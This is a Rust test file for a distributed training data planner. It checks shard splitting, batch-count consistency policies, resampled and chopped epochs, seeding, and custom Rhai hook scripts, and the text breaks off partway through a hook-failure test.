//! The epoch planner end to end: every mode and policy over one table, the seeds'
//! `simdist` example, epochs and seeds, chopped epochs, and the Rhai hooks (shipped
//! defaults, user hooks, and every way a hook can fail).

use std::collections::BTreeMap;
use std::path::Path;

use pipelines::{
    BatchPolicy, ClusterShape, Consistency, HookError, HookName, Hooks, Manifest, ManifestShard,
    Plan, PlanConfig, PlanError, PlanMode, PlanShard, Planner, WorkItem, render_plan,
};

/// (nodes, ranks per node, workers per rank)
type Shape = (u32, u32, u32);

fn shards(counts: &[Option<u64>]) -> Vec<PlanShard> {
    counts
        .iter()
        .enumerate()
        .map(|(i, n)| PlanShard::new(format!("split-{i:06}.tar"), *n))
        .collect()
}

fn known(counts: &[u64]) -> Vec<PlanShard> {
    shards(&counts.iter().map(|&n| Some(n)).collect::<Vec<_>>())
}

/// The seeds' `simdist` data: 10 shards where shard `i` holds `86 + i` samples (86..95,
/// 905 in all). Over 3 ranks x 3 workers with batch 10 and partial batches dropped:
/// rank 0 reads shards {0,9}, {3}, {6}: 181, 89, 92 samples -> 18 + 8 + 9 = 35 batches;
/// rank 1 reads {1}, {4}, {7}: 87, 90, 93 -> 8 + 9 + 9 = 26;
/// rank 2 reads {2}, {5}, {8}: 88, 91, 94 -> 8 + 9 + 9 = 26.
/// So: inconsistent without a policy; `--nbatches 26` works; `--nbatches 32` alone does
/// not (ranks 1 and 2 run out), but with `--dsrepeat 2` it does (71 / 53 / 53 batches
/// before truncation: a worker batches its repeated data as one stream).
fn simdist(policy: BatchPolicy) -> PlanConfig {
    let counts: Vec<u64> = (0..10).map(|i| 86 + i).collect();
    let mut config = PlanConfig::new(known(&counts), ClusterShape::new(3, 1, 3), 10);
    config.mode = PlanMode::Split;
    config.policy = policy;
    config
}

fn plan(config: PlanConfig, epoch: u64) -> Plan {
    Planner::new(config, Hooks::builtin())
        .expect("valid settings")
        .plan(epoch)
        .expect("plan forms")
}

/// Every sample an item yields, as (url, index in the shard).
fn samples_of(item: &WorkItem, shard_samples: u64) -> Vec<(String, u64)> {
    (0..)
        .map(|k| item.start + k * item.stride)
        .take_while(|&i| i < shard_samples)
        .take(item.take.map_or(usize::MAX, |t| t as usize))
        .map(|i| (item.url.clone(), i))
        .collect()
}

/// How often each (shard, sample) is read in a plan.
fn multiset(plan: &Plan, config: &PlanConfig) -> BTreeMap<(String, u64), u32> {
    let counts: BTreeMap<&str, u64> = config
        .shards
        .iter()
        .map(|s| (s.url.as_str(), s.samples.unwrap_or(0)))
        .collect();
    let mut seen = BTreeMap::new();
    for worker in plan.ranks.iter().flat_map(|r| &r.workers) {
        for item in &worker.items {
            for sample in samples_of(item, counts[item.url.as_str()]) {
                *seen.entry(sample).or_insert(0) += 1;
            }
        }
    }
    seen
}

#[derive(Debug)]
enum Want {
    Steps(u64),
    Inconsistent(Vec<u64>),
    Unknown,
}

struct Case {
    name: &'static str,
    counts: Vec<Option<u64>>,
    cluster: Shape,
    batch: u64,
    drop_partial: bool,
    mode: PlanMode,
    policy: BatchPolicy,
    epoch_size: Option<u64>,
    want: Want,
}

fn case(name: &'static str, counts: &[u64], cluster: Shape, batch: u64) -> Case {
    Case {
        name,
        counts: counts.iter().map(|&n| Some(n)).collect(),
        cluster,
        batch,
        drop_partial: true,
        mode: PlanMode::Split,
        policy: BatchPolicy::None,
        epoch_size: None,
        want: Want::Unknown,
    }
}

impl Case {
    fn policy(mut self, policy: BatchPolicy) -> Self {
        self.policy = policy;
        self
    }
    fn resampled(mut self, epoch_size: Option<u64>) -> Self {
        self.mode = PlanMode::Resampled;
        self.epoch_size = epoch_size;
        self
    }
    fn chopped(mut self, epoch_size: u64) -> Self {
        self.epoch_size = Some(epoch_size);
        self
    }
    fn partial(mut self) -> Self {
        self.drop_partial = false;
        self
    }
    fn unknown_counts(mut self) -> Self {
        self.counts = vec![None; self.counts.len()];
        self
    }
    fn want(mut self, want: Want) -> Self {
        self.want = want;
        self
    }

    /// Plans epochs 0 and 1 and checks the outcome and the invariants every plan keeps.
    fn run(&self) {
        let (nodes, per_node, workers) = self.cluster;
        let mut config = PlanConfig::new(
            shards(&self.counts),
            ClusterShape::new(nodes, per_node, workers),
            self.batch,
        );
        config.drop_partial = self.drop_partial;
        config.mode = self.mode;
        config.policy = self.policy;
        config.epoch_size = self.epoch_size;
        config.seed = 42;
        let name = self.name;
        for epoch in 0..2 {
            let plan = plan(config.clone(), epoch);
            assert_eq!(plan.ranks.len(), (nodes * per_node) as usize, "{name}");
            match &self.want {
                Want::Steps(steps) => {
                    assert_eq!(
                        plan.consistency,
                        Consistency::Consistent { steps: *steps },
                        "{name}\n{}",
                        render_plan(&plan)
                    );
                    plan.check().unwrap_or_else(|e| panic!("{name}: {e}"));
                    for rank in &plan.ranks {
                        assert_eq!(
                            rank.batches.map(|b| b + rank.empty_batches),
                            Some(*steps),
                            "{name} rank {}",
                            rank.rank
                        );
                    }
                }
                Want::Inconsistent(batches) => {
                    assert_eq!(
                        plan.consistency,
                        Consistency::Inconsistent {
                            batches: batches.clone()
                        },
                        "{name}"
                    );
                    assert!(
                        matches!(plan.check(), Err(PlanError::InconsistentBatches { .. })),
                        "{name}"
                    );
                }
                Want::Unknown => {
                    assert!(
                        matches!(plan.consistency, Consistency::Unknown { .. }),
                        "{name}"
                    );
                    assert_eq!(
                        plan.check().is_ok(),
                        self.policy == BatchPolicy::Join,
                        "{name}"
                    );
                }
            }
            for worker in plan.ranks.iter().flat_map(|r| &r.workers) {
                let items: Option<u64> = worker.items.iter().map(|i| i.samples).sum();
                assert_eq!(
                    items, worker.samples,
                    "{name}: items add up to the worker's samples"
                );
                if let (Some(samples), Some(batches)) = (worker.samples, worker.batches) {
                    let want = if self.drop_partial {
                        samples / self.batch
                    } else {
                        samples.div_ceil(self.batch)
                    };
                    assert_eq!(batches, want, "{name}: a worker batches its own stream");
                }
            }
            if self.mode == PlanMode::Resampled {
                let per_rank = self
                    .epoch_size
                    .unwrap_or_else(|| self.counts.iter().flatten().sum())
                    / u64::from(nodes * per_node);
                for rank in &plan.ranks {
                    let read: u64 = rank
                        .workers
                        .iter()
                        .flat_map(|w| &w.items)
                        .filter_map(|i| i.samples)
                        .sum();
                    assert!(read <= per_rank, "{name}: resampled ranks read their share");
                }
            }
            let repeats = matches!(self.policy, BatchPolicy::Repeat { .. });
            if self.mode == PlanMode::Split
                && self.epoch_size.is_none()
                && !repeats
                && !matches!(self.want, Want::Unknown)
            {
                let seen = multiset(&plan, &config);
                assert!(
                    seen.values().all(|&n| n == 1),
                    "{name}: split mode reads no sample twice"
                );
                let served: u64 = plan.ranks.iter().filter_map(|r| r.samples).sum();
                if served == plan.dataset_samples.unwrap_or(0) {
                    assert_eq!(
                        seen.len() as u64,
                        served,
                        "{name}: every sample exactly once"
                    );
                }
            }
        }
    }
}

#[test]
fn every_mode_and_policy() {
    use BatchPolicy::{Drop, Join, Repeat};
    let simdist: Vec<u64> = (0..10).map(|i| 86 + i).collect();
    let uneven = [120, 7, 300, 64, 64, 5, 250];
    let cases = [
        // The simdist data (see `simdist`).
        case("simdist, no policy", &simdist, (3, 1, 3), 10)
            .want(Want::Inconsistent(vec![35, 26, 26])),
        case("simdist, join", &simdist, (3, 1, 3), 10)
            .policy(Join)
            .want(Want::Steps(35)),
        case("simdist, drop to min", &simdist, (3, 1, 3), 10)
            .policy(Drop { nbatches: None })
            .want(Want::Steps(26)),
        case("simdist, nbatches 26", &simdist, (3, 1, 3), 10)
            .policy(Drop { nbatches: Some(26) })
            .want(Want::Steps(26)),
        case("simdist, nbatches 32", &simdist, (3, 1, 3), 10)
            .policy(Drop { nbatches: Some(32) })
            .want(Want::Inconsistent(vec![32, 26, 26])),
        case("simdist, nbatches 32 dsrepeat 2", &simdist, (3, 1, 3), 10)
            .policy(Repeat {
                dsrepeat: 2,
                nbatches: Some(32),
            })
            .want(Want::Steps(32)),
        case("simdist, dsrepeat 2 to min", &simdist, (3, 1, 3), 10)
            .policy(Repeat {
                dsrepeat: 2,
                nbatches: None,
            })
            .want(Want::Steps(53)),
        case("simdist, partial batches kept", &simdist, (3, 1, 3), 10)
            .partial()
            .want(Want::Inconsistent(vec![38, 28, 29])),
        case("simdist, resampled", &simdist, (3, 1, 3), 10)
            .resampled(None)
            .want(Want::Steps(30)),
        case("simdist, resampled 600", &simdist, (3, 1, 3), 10)
            .resampled(Some(600))
            .want(Want::Steps(18)),
        case("simdist, chopped 300", &simdist, (3, 1, 3), 10)
            .chopped(300)
            .want(Want::Steps(9)),
        // Uneven shards over 2 nodes x 2 ranks x 2 workers, batch 16: rank 0 reads 120 | 64
        // (7 + 4 batches), rank 1 7 | 5 (none), rank 2 300 | 250 (18 + 15), rank 3 shares
        // one shard of 64 by stride, 32 | 32 (2 + 2).
        case("uneven, none", &uneven, (2, 2, 2), 16).want(Want::Inconsistent(vec![11, 0, 33, 4])),
        case("uneven, join", &uneven, (2, 2, 2), 16)
            .policy(Join)
            .want(Want::Steps(33)),
        case("uneven, drop", &uneven, (2, 2, 2), 16)
            .policy(Drop { nbatches: None })
            .want(Want::Steps(0)),
        case("uneven, partial kept, drop", &uneven, (2, 2, 2), 16)
            .partial()
            .policy(Drop { nbatches: None })
            .want(Want::Steps(2)),
        case("uneven, repeat 3", &uneven, (2, 2, 2), 16)
            .policy(Repeat {
                dsrepeat: 3,
                nbatches: None,
            })
            .want(Want::Steps(1)),
        case("uneven, repeat 3 to 4", &uneven, (2, 2, 2), 16)
            .policy(Repeat {
                dsrepeat: 3,
                nbatches: Some(4),
            })
            .want(Want::Inconsistent(vec![4, 1, 4, 4])),
        case("uneven, resampled", &uneven, (2, 2, 2), 16)
            .resampled(Some(1000))
            .want(Want::Steps(14)),
        case("uneven, chopped", &uneven, (2, 2, 2), 16)
            .chopped(400)
            .want(Want::Steps(6)),
        // Fewer shards than ranks x workers: shards are shared by stride.
        // Rank 0: 34 | 33 | 33 of shard 0 (4 + 4 + 4 batches); rank 1: 21 | 20 | 20 (3 + 2 + 2).
        case("2 shards, 2x3", &[100, 61], (2, 1, 3), 10)
            .partial()
            .policy(Join)
            .want(Want::Steps(12)),
        case("2 shards, 2x3, none", &[100, 61], (2, 1, 3), 10)
            .partial()
            .want(Want::Inconsistent(vec![12, 7])),
        case("1 shard, 1x4", &[50], (1, 1, 4), 5)
            .partial()
            .want(Want::Steps(12)),
        // Ranks 0 and 3 share shard 0 (20 samples each, 2 + 2 batches), ranks 1 and 2 read
        // shards 1 and 2 (5 + 5).
        case("3 shards, 2x2x2", &[40, 40, 40], (2, 2, 2), 4)
            .policy(Drop { nbatches: None })
            .want(Want::Steps(4)),
        case("3 shards, 2x2x2, none", &[40, 40, 40], (2, 2, 2), 4)
            .want(Want::Inconsistent(vec![4, 10, 10, 4])),
        case("3 even shards, 3x1", &[30, 30, 30], (3, 1, 1), 10).want(Want::Steps(3)),
        // Unknown counts.
        case("unknown, split, none", &[1, 1, 1], (1, 2, 2), 4).unknown_counts(),
        case("unknown, split, join", &[1, 1, 1], (1, 2, 2), 4)
            .unknown_counts()
            .policy(Join),
    ];
    for case in cases {
        case.run();
    }
}

#[test]
fn simdist_example_is_reproduced() {
    let no_policy = plan(simdist(BatchPolicy::None), 0);
    let err = no_policy.check().expect_err("inconsistent").to_string();
    assert!(err.contains("rank 0: 35, rank 1: 26, rank 2: 26"), "{err}");
    let text = render_plan(&no_policy);
    assert!(text.contains("INCONSISTENT"), "{text}");

    let drop = plan(simdist(BatchPolicy::Drop { nbatches: Some(26) }), 0);
    drop.check().expect("nbatches 26 is consistent");
    let rank0 = &drop.ranks[0];
    // Rank 0 takes one batch from each worker in turn: 9 + 8 + 9, dropping 9 of worker 0's.
    let per_worker: Vec<_> = rank0
        .workers
        .iter()
        .map(|w| (w.batches, w.dropped_batches))
        .collect();
    assert_eq!(per_worker, [(Some(9), 9), (Some(8), 0), (Some(9), 0)]);
    assert_eq!((rank0.samples, rank0.dropped_batches), (Some(260), 9));
    let text = render_plan(&drop);
    assert!(
        text.contains("rank 0 (node 0): 260 samples, 26 batches, 9 dropped"),
        "{text}"
    );
    assert!(
        text.contains("consistent: every rank runs 26 steps"),
        "{text}"
    );

    let repeat = plan(
        simdist(BatchPolicy::Repeat {
            dsrepeat: 2,
            nbatches: Some(32),
        }),
        0,
    );
    repeat
        .check()
        .expect("nbatches 32 with dsrepeat 2 is consistent");
    let dropped: Vec<_> = repeat
        .ranks
        .iter()
        .map(|r| (r.dropped_batches, r.repeated_batches))
        .collect();
    // Rank 0: 36 + 17 + 18 batches over two passes, 11 + 11 + 10 served in turn, of which
    // 0 + 3 + 1 lie beyond its one-pass 18 + 8 + 9.
    assert_eq!(dropped, [(39, 4), (21, 6), (21, 6)]);

    let join = plan(simdist(BatchPolicy::Join), 0);
    let empty: Vec<_> = join.ranks.iter().map(|r| r.empty_batches).collect();
    assert_eq!(empty, [0, 9, 9]);
}

#[test]
fn split_follows_the_webdataset_rule() {
    let mut config = simdist(BatchPolicy::Join);
    config.shuffle_shards = false;
    let urls: Vec<String> = config.shards.iter().map(|s| s.url.clone()).collect();
    let plan = plan(config, 0);
    for rank in &plan.ranks {
        let of_rank: Vec<&String> = urls.iter().skip(rank.rank.0 as usize).step_by(3).collect();
        for worker in &rank.workers {
            let want: Vec<&String> = of_rank
                .iter()
                .copied()
                .skip(worker.worker.0 as usize)
                .step_by(3)
                .collect();
            let got: Vec<&String> = worker.items.iter().map(|i| &i.url).collect();
            assert_eq!(got, want, "rank {} worker {}", rank.rank, worker.worker);
        }
    }
}

#[test]
fn fewer_shards_than_workers_reads_every_sample_once() {
    let cases: &[(&[u64], Shape)] = &[
        (&[50], (1, 1, 4)),
        (&[100, 61], (2, 1, 3)),
        (&[40, 41, 39], (2, 2, 2)),
        (&[7, 3], (1, 3, 3)),
        (&[10, 10, 10, 10, 10], (1, 2, 4)),
    ];
    for (counts, (nodes, per_node, workers)) in cases {
        let mut config = PlanConfig::new(
            known(counts),
            ClusterShape::new(*nodes, *per_node, *workers),
            1,
        );
        config.mode = PlanMode::Split;
        config.policy = BatchPolicy::Join;
        let plan = plan(config.clone(), 0);
        let seen = multiset(&plan, &config);
        let total: u64 = counts.iter().sum();
        assert_eq!(seen.len() as u64, total, "{counts:?}: every sample");
        assert!(seen.values().all(|&n| n == 1), "{counts:?}: once");
        let starved = plan
            .ranks
            .iter()
            .flat_map(|r| &r.workers)
            .filter(|w| w.items.is_empty())
            .count();
        assert_eq!(starved, 0, "{counts:?}: no worker without work");
    }
}

#[test]
fn epochs_shuffle_differently_and_seeds_reproduce() {
    for mode in [PlanMode::Split, PlanMode::Resampled] {
        let counts: Vec<u64> = (0..40).map(|i| 50 + i).collect();
        let mut config = PlanConfig::new(known(&counts), ClusterShape::new(2, 1, 2), 8);
        config.mode = mode;
        config.policy = BatchPolicy::Join;
        config.seed = 7;
        let order = |plan: &Plan| -> Vec<Vec<String>> {
            plan.ranks
                .iter()
                .flat_map(|r| &r.workers)
                .map(|w| w.items.iter().map(|i| i.url.clone()).collect())
                .collect()
        };
        let epoch0 = plan(config.clone(), 0);
        assert_eq!(
            epoch0,
            plan(config.clone(), 0),
            "{mode:?}: same seed, same plan"
        );
        let epoch1 = plan(config.clone(), 1);
        assert_ne!(order(&epoch0), order(&epoch1), "{mode:?}: epochs differ");
        let mut other = config.clone();
        other.seed = 8;
        assert_ne!(
            order(&epoch0),
            order(&plan(other, 0)),
            "{mode:?}: seeds differ"
        );
        let seeds: Vec<u64> = epoch0
            .ranks
            .iter()
            .flat_map(|r| &r.workers)
            .map(|w| w.seed)
            .collect();
        let mut unique = seeds.clone();
        unique.dedup();
        assert_eq!(
            unique.len(),
            seeds.len(),
            "{mode:?}: every worker has its own seed"
        );
        if mode == PlanMode::Split {
            // Same shards every epoch, in another order.
            let sorted = |plan: &Plan| {
                order(plan)
                    .into_iter()
                    .map(|mut urls| {
                        urls.sort();
                        urls
                    })
                    .collect::<Vec<_>>()
            };
            assert_eq!(sorted(&epoch0), sorted(&epoch1));
        }
    }
}

#[test]
fn chopped_epochs_continue_where_the_last_stopped() {
    let mut config = PlanConfig::new(known(&[10, 10, 10]), ClusterShape::new(1, 1, 1), 4);
    config.mode = PlanMode::Split;
    config.shuffle_shards = false;
    config.epoch_size = Some(12);
    config.nominal_size = Some(1000);
    let item = |shard: u32, start, take| (format!("split-{shard:06}.tar"), start, take);
    let want = [
        vec![item(0, 0, None), item(1, 0, Some(2))],
        vec![item(1, 2, None), item(2, 0, Some(4))],
        vec![item(2, 4, None), item(0, 0, Some(6))],
    ];
    for (epoch, want) in want.iter().enumerate() {
        let plan = plan(config.clone(), epoch as u64);
        let worker = &plan.ranks[0].workers[0];
        let got: Vec<_> = worker
            .items
            .iter()
            .map(|i| (i.url.clone(), i.start, i.take))
            .collect();
        assert_eq!(&got, want, "epoch {epoch}");
        assert_eq!(worker.stream_offset, 12 * epoch as u64);
        assert_eq!(
            (plan.nominal_size, plan.nominal_batches()),
            (Some(1000), Some(250))
        );
    }

    // Shuffled and spread over 2 x 2 workers of one shard each: 5 epochs of 16 are two
    // passes, so every sample is read exactly twice.
    let mut config = PlanConfig::new(known(&[10, 10, 10, 10]), ClusterShape::new(1, 2, 2), 1);
    config.mode = PlanMode::Split;
    config.epoch_size = Some(16);
    let mut seen = BTreeMap::new();
    for epoch in 0..5 {
        for (key, n) in multiset(&plan(config.clone(), epoch), &config) {
            *seen.entry(key).or_insert(0) += n;
        }
    }
    assert_eq!(seen.len(), 40);
    assert!(seen.values().all(|&n| n == 2), "{seen:?}");
}

#[test]
fn unknown_counts_need_a_manifest_or_a_default() {
    let unknown = PlanShard::from_urls(["a.tar", "b.tar", "c.tar"]);
    let mut config = PlanConfig::new(unknown.clone(), ClusterShape::new(1, 1, 2), 4);
    let err = Planner::new(config.clone(), Hooks::builtin())
        .expect("settings")
        .plan(0)
        .expect_err("resampled needs an epoch size");
    assert!(
        matches!(err, PlanError::NeedsEpochSize { missing: 3 }),
        "{err}"
    );
    assert!(err.to_string().contains("data.epoch_size"), "{err}");

    config.mode = PlanMode::Split;
    let split = plan(config.clone(), 0);
    assert_eq!(
        split.consistency,
        Consistency::Unknown {
            shards_without_counts: 3
        }
    );
    let err = split.check().expect_err("unchecked").to_string();
    assert!(err.contains("cannot check batch consistency"), "{err}");
    assert!(render_plan(&split).contains("cannot check batch consistency"));

    config.epoch_size = Some(12);
    let err = Planner::new(config.clone(), Hooks::builtin())
        .expect("settings")
        .plan(0)
        .expect_err("chopped epochs need counts");
    assert!(matches!(err, PlanError::NeedsCounts { .. }), "{err}");
    config.epoch_size = None;

    config.default_samples_per_shard = Some(100);
    let assumed = plan(config.clone(), 0);
    assert_eq!(assumed.assumed_counts, 3);
    // Worker 0 reads a and c (200 samples, 50 batches), worker 1 reads b (25 batches).
    assert_eq!(assumed.consistency, Consistency::Consistent { steps: 75 });

    let manifest = Manifest {
        version: 1,
        classes: vec![],
        shards: ["a.tar", "b.tar"]
            .iter()
            .map(|name| ManifestShard {
                name: name.to_string(),
                samples: 9,
                bytes: 0,
                class_counts: BTreeMap::new(),
            })
            .collect(),
    };
    let urls = ["/data/a.tar", "pipe:curl -s http://h/b.tar", "/data/c.tar"];
    let with = PlanShard::with_manifest(&urls, &manifest);
    let counts: Vec<_> = with.iter().map(|s| s.samples).collect();
    assert_eq!(counts, [Some(9), Some(9), None]);
}

/// Resampled mode without (exact) counts, as webdataset's `resampled=True` with
/// `.with_epoch(n)`: each worker draws whole shards and serves its quota, so every rank
/// runs the same steps whatever the shards really hold.
#[test]
fn resampled_draws_whole_shards_when_counts_are_unknown_or_assumed() {
    let unknown = PlanShard::from_urls(["a.tar", "b.tar", "c.tar"]);
    let mut config = PlanConfig::new(unknown, ClusterShape::new(2, 1, 2), 4);
    config.epoch_size = Some(100);
    let drawn = plan(config.clone(), 0);
    // 100 samples over 2 ranks and 2 workers: 25 a worker, 6 whole batches of 4.
    assert_eq!(drawn.consistency, Consistency::Consistent { steps: 12 });
    for rank in &drawn.ranks {
        for worker in &rank.workers {
            assert_eq!(worker.samples, Some(24), "6 whole batches of the 25");
            // An unknown shard counts as one sample: 25 draws, each read whole.
            assert_eq!(worker.items.len(), 25);
            assert!(
                worker.items.iter().all(|i| i.is_whole_shard()),
                "{worker:?}"
            );
        }
    }
    assert_eq!(
        plan(config.clone(), 0),
        drawn,
        "the draws are deterministic"
    );
    assert_ne!(
        plan(config.clone(), 1).ranks,
        drawn.ranks,
        "and differ by epoch"
    );

    // A declared count plans fewer draws, still read whole.
    config.default_samples_per_shard = Some(10);
    let assumed = plan(config.clone(), 0);
    assert_eq!(assumed.steps(), Some(12));
    let worker = &assumed.ranks[1].workers[1];
    assert_eq!(worker.items.len(), 3);
    assert!(
        worker
            .items
            .iter()
            .all(|i| i.is_whole_shard() && i.samples == Some(10))
    );

    // Known counts keep exact draws, cut to the 6 whole batches.
    let mut exact = PlanConfig::new(known(&[10, 10, 10]), ClusterShape::new(2, 1, 2), 4);
    exact.epoch_size = Some(100);
    let worker = &plan(exact, 0).ranks[0].workers[0];
    assert_eq!(
        worker.items.iter().filter_map(|i| i.samples).sum::<u64>(),
        24
    );
    assert_eq!(worker.items.last().and_then(|i| i.take), Some(4));
}

#[test]
fn bad_settings_are_refused() {
    let base = || {
        let mut config = PlanConfig::new(known(&[10, 10]), ClusterShape::new(1, 1, 1), 4);
        config.mode = PlanMode::Split;
        config
    };
    type Change = Box<dyn Fn(&mut PlanConfig)>;
    let cases: Vec<(&str, Change, &str)> = vec![
        (
            "no workers",
            Box::new(|c| c.cluster.workers_per_rank = 0),
            "cluster",
        ),
        ("no batch", Box::new(|c| c.batch_size = 0), "batch_size"),
        ("no shards", Box::new(|c| c.shards.clear()), "shards"),
        (
            "dsrepeat 0",
            Box::new(|c| {
                c.policy = BatchPolicy::Repeat {
                    dsrepeat: 0,
                    nbatches: None,
                }
            }),
            "dsrepeat",
        ),
        (
            "repeat resampled",
            Box::new(|c| {
                c.mode = PlanMode::Resampled;
                c.policy = BatchPolicy::Repeat {
                    dsrepeat: 2,
                    nbatches: None,
                };
            }),
            "policy",
        ),
        (
            "tiny epoch",
            Box::new(|c| {
                c.cluster = ClusterShape::new(4, 1, c.cluster.workers_per_rank);
                c.epoch_size = Some(3);
            }),
            "epoch_size",
        ),
    ];
    for (name, change, field) in cases {
        let mut config = base();
        change(&mut config);
        match Planner::new(config, Hooks::builtin()) {
            Err(PlanError::Config { field: got, .. }) => assert_eq!(got, field, "{name}"),
            other => panic!("{name}: {other:?}"),
        }
    }
}

// ---- Hooks ----------------------------------------------------------------------

fn scripts_dir() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../scripts"))
}

fn user_hooks(files: &[(&str, &str)]) -> (tempfile::TempDir, Result<Hooks, HookError>) {
    let dir = tempfile::tempdir().expect("temp dir");
    for (name, source) in files {
        std::fs::write(dir.path().join(name), source).expect("write hook");
    }
    let hooks = Hooks::from_dir(dir.path());
    (dir, hooks)
}

fn plan_with(config: PlanConfig, hooks: Hooks, epoch: u64) -> Result<Plan, PlanError> {
    Planner::new(config, hooks)?.plan(epoch)
}

#[test]
fn shipped_scripts_are_the_builtin_behaviour() {
    let shipped = std::fs::read_dir(scripts_dir())
        .expect("scripts/")
        .filter_map(|e| e.ok())
        .filter(|e| e.path().extension().is_some_and(|x| x == "rhai"))
        .count();
    assert_eq!(shipped, 4, "one file per hook");
    let counts: Vec<u64> = (0..13).map(|i| 20 + 3 * i).collect();
    let configs = [
        (PlanMode::Split, None, (2, 2, 3)),
        (PlanMode::Split, Some(300), (1, 2, 2)),
        (PlanMode::Split, None, (3, 2, 4)),
        (PlanMode::Resampled, Some(500), (2, 1, 3)),
    ];
    for (mode, epoch_size, (nodes, per_node, workers)) in configs {
        let mut config = PlanConfig::new(
            known(&counts),
            ClusterShape::new(nodes, per_node, workers),
            4,
        );
        config.mode = mode;
        config.epoch_size = epoch_size;
        config.policy = BatchPolicy::Join;
        for epoch in 0..3 {
            let builtin = plan(config.clone(), epoch);
            let from_files = plan_with(
                config.clone(),
                Hooks::from_dir(scripts_dir()).expect("shipped scripts load"),
                epoch,
            )
            .expect("plan");
            assert!(
                from_files
                    .hooks
                    .iter()
                    .all(|(_, file)| !file.ends_with("(built-in)"))
            );
            assert_eq!(from_files.ranks, builtin.ranks, "{mode:?} epoch {epoch}");
            assert_eq!(from_files.consistency, builtin.consistency);
        }
    }
}

#[test]
fn user_hooks_change_the_plan() {
    let mut config = simdist(BatchPolicy::Join);
    config.shuffle_shards = false;
    let builtin = plan(config.clone(), 0);
    let urls = |plan: &Plan, rank: usize, worker: usize| -> Vec<String> {
        plan.ranks[rank].workers[worker]
            .items
            .iter()
            .map(|i| i.url.clone())
            .collect()
    };

    // Reverse each worker's shards.
    let (_dir, hooks) = user_hooks(&[(
        "shard_shuffle.rhai",
        "fn shard_shuffle(shards, ctx) { shards.reverse(); shards }",
    )]);
    let reversed = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
    let mut want = urls(&builtin, 0, 0);
    want.reverse();
    assert_eq!(urls(&reversed, 0, 0), want);
    assert_ne!(urls(&reversed, 0, 0), urls(&builtin, 0, 0));

    // Filter shards out before the split, returning plain URLs.
    let source = r#"
        fn node_selection(shards, ctx) {
            let kept = shards.filter(|s| !s.url.contains("3") && !s.url.contains("7"));
            split_part(kept.map(|s| s.url), ctx.rank, ctx.world_size)
        }
    "#;
    let (_dir, hooks) = user_hooks(&[("node_selection.rhai", source)]);
    let filtered = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
    let all: Vec<String> = filtered
        .ranks
        .iter()
        .flat_map(|r| &r.workers)
        .flat_map(|w| &w.items)
        .map(|i| i.url.clone())
        .collect();
    // 8 shards for 9 workers: rank 2's two shards are shared by its three workers.
    assert_eq!(all.len(), 9);
    let distinct: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!(distinct.len(), 8);
    assert!(
        all.iter().all(|u| !u.contains('3') && !u.contains('7')),
        "{all:?}"
    );
    // Plain URLs keep the counts of the input list.
    // (86 samples, cut to 80 for whole batches.)
    assert_eq!(filtered.ranks[0].workers[0].items[0].samples, Some(80));

    // Narrow shards to slices through the `Shard` setters: every other sample.
    let source = r#"
        fn shard_selection(shards, ctx) {
            split_part(shards, ctx.worker, ctx.workers).map(|s| { s.stride = 2; s })
        }
    "#;
    let (_dir, hooks) = user_hooks(&[("shard_selection.rhai", source)]);
    let halved = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
    let item = &halved.ranks[1].workers[0].items[0];
    // Shard 1 holds 87 samples: 0, 2, ..., 86 is 44 of them, cut to 40 for whole batches.
    assert_eq!(
        (item.url.as_str(), item.stride, item.samples),
        ("split-000001.tar", 2, Some(40))
    );
    assert_eq!(halved.ranks[1].batches, Some(4 + 4 + 4));

    // Weight shards by repeating them: each worker reads its shards twice.
    let (_dir, hooks) = user_hooks(&[(
        "shard_shuffle.rhai",
        "fn shard_shuffle(shards, ctx) { shards + shards }",
    )]);
    let doubled = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
    let mut want = urls(&builtin, 0, 0);
    want.extend(want.clone());
    assert_eq!(urls(&doubled, 0, 0), want);

    // One seed per rank, set by `reseed`: every worker of a rank picks the same shard,
    // where the built-in seeds (one per worker) pick different ones.
    let reseed = "fn reseed(ctx) { ctx.rng.set_seed(1000 + ctx.rank); }";
    let pick_one = "fn shard_shuffle(shards, ctx) { [shards[ctx.rng.next_int(shards.len())]] }";
    let mut config = PlanConfig::new(known(&[5; 12]), ClusterShape::new(1, 2, 3), 1);
    config.epoch_size = Some(60);
    let firsts = |plan: &Plan, rank: usize| -> Vec<String> {
        plan.ranks[rank]
            .workers
            .iter()
            .map(|w| w.items[0].url.clone())
            .collect()
    };
    let (_dir, hooks) = user_hooks(&[("shard_shuffle.rhai", pick_one)]);
    let per_worker = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
    let (_dir, hooks) = user_hooks(&[("reseed.rhai", reseed), ("shard_shuffle.rhai", pick_one)]);
    let per_rank = plan_with(config, hooks.expect("loads"), 0).expect("plan");
    for rank in 0..2 {
        let same = firsts(&per_rank, rank);
        assert!(same.iter().all(|u| *u == same[0]), "{same:?}");
        // Resampling from a single candidate draws only it.
        let items = per_rank.ranks[rank].workers.iter().flat_map(|w| &w.items);
        assert!(items.clone().count() > 3 && items.into_iter().all(|i| i.url == same[0]));
    }
    let differ = firsts(&per_worker, 0);
    assert!(differ.iter().any(|u| *u != differ[0]), "{differ:?}");
}

#[test]
fn hook_failures_name_the_hook_the_file_and_the_problem() {
    struct Failure {
        file: &'static str,
        source: &'static str,
        check: fn(&HookError) -> bool,
    }
    let failures = [
        Failure {
            file: "node_selection.rhai",
            source: "fn node_selection(shards, ctx) {\n    let x = ;\n    shards\n}\n",
            check: |e| {
                matches!(
                    e,
                    HookError::Compile {
                        hook: HookName::NodeSelection,
                        line: 2,
                        column: 13,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "reseed.rhai",
            source: "fn reseed(ctx) { eval(\"ctx\") }",
            check: |e| {
                matches!(
                    e,
                    HookError::Compile {
                        hook: HookName::Reseed,
                        line: 1,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "shard_selection.rhai",
            source: "fn shard_select(shards, ctx) { shards }",
            check: |e| {
                matches!(
                    e,
                    HookError::MissingFunction {
                        hook: HookName::ShardSelection,
                        ..
                    }
                )
            },
        },
        Failure {
            file: "shard_shufle.rhai",
            source: "fn shard_shuffle(shards, ctx) { shards }",
            check: |e| matches!(e, HookError::UnknownFile { .. }),
        },
        Failure {
            file: "shard_shuffle.rhai",
